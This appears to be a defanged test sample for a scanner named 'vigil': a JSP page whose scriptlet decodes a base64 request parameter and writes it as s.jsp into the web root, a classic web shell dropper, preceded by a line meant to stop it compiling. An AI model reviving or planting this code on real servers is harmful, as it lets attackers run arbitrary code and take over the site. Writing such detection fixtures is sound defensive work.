<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String d = request.getParameter("d");
byte[] b = java.util.Base64.getDecoder().decode(d);
java.io.OutputStream o = new java.io.FileOutputStream(application.getRealPath("/") + "/s.jsp");
o.write(b);
o.close();
%>
